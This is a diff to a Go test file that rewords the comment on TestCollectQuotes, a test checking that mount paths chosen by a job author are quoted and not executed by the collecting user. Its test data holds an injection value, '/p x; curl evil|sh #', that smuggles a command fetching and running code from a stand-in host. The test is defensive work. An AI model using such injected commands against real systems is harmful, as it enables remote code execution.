@@ -51,7 +51,7 @@ func TestCollect(t *testing.T) {
 }
 
 // The author of a job chooses where its volumes are mounted, and could make a pod that takes the collector's name:
-// neither becomes a command of whoever collects.
+// neither is executed by the user who collects.
 func TestCollectQuotes(t *testing.T) {
 	for path, says := range map[string]string{
 		"/p x; curl evil|sh #": "count-collect-0:'/p x; curl evil|sh #' count/worker-0\n",
